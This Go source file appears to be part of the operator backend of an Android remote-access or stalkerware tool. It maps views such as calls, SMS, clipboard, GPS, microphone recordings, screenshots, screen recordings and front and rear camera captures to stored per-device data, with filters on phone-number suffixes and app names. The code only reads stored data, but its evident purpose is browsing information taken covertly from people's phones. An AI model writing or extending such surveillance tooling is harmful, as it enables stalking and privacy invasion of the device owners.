package fleet

import (
	"context"

	"fleetmaster/storage"
)

// Page selects which read-only view of a client's stored data GetPage
// returns. The set is closed.
type Page string

const (
	PageCalls         Page = "calls"
	PageSMS           Page = "sms"
	PageNotifications Page = "notifications"
	PageWifi          Page = "wifi"
	PageContacts      Page = "contacts"
	PagePermissions   Page = "permissions"
	PageClipboard     Page = "clipboard"
	PageApps          Page = "apps"
	PageFiles         Page = "files"
	PageDownloads     Page = "downloads"
	PageMicrophone    Page = "microphone"
	PageGPS           Page = "gps"
	PageInfo          Page = "info"
	PageLockDevice    Page = "lockdevice"
	PageScreenshot    Page = "screenshot"
	PageScreenRecord  Page = "screenrecord"
	PageRearCam       Page = "rearcam"
	PageFrontCam      Page = "frontcam"
)

// pageView builds one view over a client's stored data. The client record is
// the one GetPage already fetched; views never mutate anything.
type pageView func(ctx context.Context, m *Manager, client *storage.Client, filter string) (interface{}, error)

var pageViews = map[Page]pageView{
	PageCalls:         viewCalls,
	PageSMS:           viewSMS,
	PageNotifications: viewNotifications,
	PageWifi:          viewWifi,
	PageContacts:      snapshotView(storage.SectionContacts),
	PagePermissions:   snapshotView(storage.SectionPermissions),
	PageClipboard:     viewClipboard,
	PageApps:          snapshotView(storage.SectionApps),
	PageFiles:         snapshotView(storage.SectionCurrentFolder),
	PageDownloads:     downloadView(storage.MediaDownload),
	PageMicrophone:    downloadView(storage.MediaVoiceRecording),
	PageGPS:           viewGPS,
	PageInfo:          viewInfo,
	PageLockDevice:    snapshotView(storage.SectionLockState),
	PageScreenshot:    downloadView(storage.MediaScreenshot),
	PageScreenRecord:  downloadView(storage.MediaScreenRecording),
	PageRearCam:       downloadView(storage.MediaRearCamera),
	PageFrontCam:      downloadView(storage.MediaFrontCamera),
}

// GetPage returns a read-only snapshot of one view of a client's stored
// data. Unknown client → ErrUnknownClient; unrecognized page →
// ErrUnknownPage, independent of the filter value.
func (m *Manager) GetPage(ctx context.Context, clientID string, page Page, filter string) (interface{}, error) {
	client, err := m.store.GetClient(ctx, clientID)
	if err != nil {
		return nil, err
	}
	if client == nil {
		return nil, ErrUnknownClient
	}

	view, ok := pageViews[page]
	if !ok {
		return nil, ErrUnknownPage
	}
	return view(ctx, m, client, filter)
}

// suffix returns the last n characters of s (all of s when shorter).
func suffix(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[len(s)-n:]
}

func viewCalls(ctx context.Context, m *Manager, client *storage.Client, filter string) (interface{}, error) {
	calls, err := m.store.ListCalls(ctx, client.ClientID)
	if err != nil {
		return nil, err
	}
	if filter == "" {
		return calls, nil
	}
	want := suffix(filter, 6)
	matched := make([]*storage.CallEntry, 0, len(calls))
	for _, c := range calls {
		if suffix(c.PhoneNo, 6) == want {
			matched = append(matched, c)
		}
	}
	return matched, nil
}

func viewSMS(ctx context.Context, m *Manager, client *storage.Client, filter string) (interface{}, error) {
	sms, err := m.store.ListSMS(ctx, client.ClientID)
	if err != nil {
		return nil, err
	}
	if filter == "" {
		return sms, nil
	}
	want := suffix(filter, 6)
	matched := make([]*storage.SMSEntry, 0, len(sms))
	for _, s := range sms {
		if suffix(s.Address, 6) == want {
			matched = append(matched, s)
		}
	}
	return matched, nil
}

func viewNotifications(ctx context.Context, m *Manager, client *storage.Client, filter string) (interface{}, error) {
	notifs, err := m.store.ListNotifications(ctx, client.ClientID)
	if err != nil {
		return nil, err
	}
	if filter == "" {
		return notifs, nil
	}
	matched := make([]*storage.NotificationEntry, 0, len(notifs))
	for _, n := range notifs {
		if n.AppName == filter {
			matched = append(matched, n)
		}
	}
	return matched, nil
}

func viewWifi(ctx context.Context, m *Manager, client *storage.Client, _ string) (interface{}, error) {
	now, err := m.store.GetSnapshot(ctx, client.ClientID, storage.SectionWifiNow)
	if err != nil {
		return nil, err
	}
	log, err := m.store.GetSnapshot(ctx, client.ClientID, storage.SectionWifiLog)
	if err != nil {
		return nil, err
	}
	return map[string]interface{}{"now": now, "log": log}, nil
}

func viewClipboard(ctx context.Context, m *Manager, client *storage.Client, _ string) (interface{}, error) {
	return m.store.ListClipboard(ctx, client.ClientID)
}

func viewGPS(ctx context.Context, m *Manager, client *storage.Client, _ string) (interface{}, error) {
	return m.store.ListLocations(ctx, client.ClientID)
}

func viewInfo(_ context.Context, _ *Manager, client *storage.Client, _ string) (interface{}, error) {
	return client, nil
}

func snapshotView(section string) pageView {
	return func(ctx context.Context, m *Manager, client *storage.Client, _ string) (interface{}, error) {
		return m.store.GetSnapshot(ctx, client.ClientID, section)
	}
}

func downloadView(mediaType string) pageView {
	return func(ctx context.Context, m *Manager, client *storage.Client, _ string) (interface{}, error) {
		return m.store.ListDownloadsByType(ctx, client.ClientID, mediaType)
	}
}
